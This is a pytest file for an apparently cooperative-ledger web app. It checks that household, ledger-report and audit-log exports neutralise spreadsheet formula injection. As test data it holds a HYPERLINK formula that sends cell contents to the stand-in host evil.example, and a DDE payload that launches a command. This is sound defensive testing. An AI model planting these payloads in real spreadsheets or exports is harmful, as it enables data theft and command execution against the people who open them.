"""Spreadsheet formula injection: user text that looks like a formula is written as text by
every export (OWASP CSV injection). A household head, a voucher 摘要 and an audit line carry
``=HYPERLINK(...)`` and ``=cmd|' /C calc'!A0``; each export is read back and the cells are the
typed strings (XLSX: string cells, never formulas; CSV: a leading apostrophe)."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import sqlalchemy as sa
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook

from coopledger.extensions import db
from coopledger.members.models import Household
from coopledger.spreadsheets import append_row, csv_row, is_risky
from tests.conftest import Auth
from tests.ledger_helpers import book_with_vouchers, make_voucher

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


def _strings(data: bytes) -> list[tuple[str, str]]:
    """Every text cell of every sheet with its openpyxl type ('s' string, 'f' formula)."""
    book = load_workbook(io.BytesIO(data))
    return [(str(cell.value), cell.data_type) for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def test_the_helpers_neutralise_every_trigger_but_not_numbers() -> None:
    for text in (LINK, DDE, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert is_risky(text), text
    for text in ("-1,234.00", "95000.00", "+86", "张三", "", "6228480402564890018"):
        assert not is_risky(text), text
    assert csv_row([LINK, "-1,234.00", 5]) == [f"'{LINK}", "-1,234.00", 5]
    sheet = Workbook().active
    append_row(sheet, [LINK, DDE, "-5", 3])
    saved = io.BytesIO()
    sheet.parent.save(saved)
    assert list(_strings(saved.getvalue())) == [(LINK, "s"), (DDE, "s"), ("-5", "s")]


def test_every_export_writes_formula_text_as_text(client: FlaskClient, auth: Auth,
                                                  by_name: Any, tmp_path: Path) -> None:
    org = by_name.org("shian-jjhzs")
    accountant, reviewer = by_name.user("accountant"), by_name.user("reviewer")
    household = db.session.scalars(sa.select(Household).where(
        Household.head_name == "王德明")).one()
    household.address = DDE
    household.head_name = LINK
    book_with_vouchers(org, accountant, reviewer)
    make_voucher(org, accountant, reviewer, summary=DDE)
    from coopledger.audit.services import record

    record("household.update", household, by=accountant, label=LINK)
    db.session.commit()
    auth.login("accountant")
    roster = client.get("/o/shian-jjhzs/households/export.xlsx")
    assert roster.status_code == 200
    cells = _strings(roster.data)
    assert (LINK, "s") in cells
    assert all(kind != "f" for _text, kind in cells)
    base = "/o/shian-jjhzs/books/reports/detail_ledger?period=2024-03&account=102"
    report = client.get(f"{base}&format=xlsx")
    assert (DDE, "s") in _strings(report.data)
    csv = client.get(f"{base}&format=csv").get_data(as_text=True)
    assert f"'{DDE}" in csv
    # The audit log's export job: the voucher's 摘要 is in its label, the head's name in the
    # household's before/after.
    from coopledger.audit.exports import export_audit_log

    out = tmp_path / "audit"
    out.mkdir()
    written = export_audit_log({}, lambda _p, _m: None, out)
    audit_cells = _strings(written.read_bytes())
    assert any(text.startswith("=") and kind == "s" for text, kind in audit_cells)
    assert all(kind != "f" for _text, kind in audit_cells)
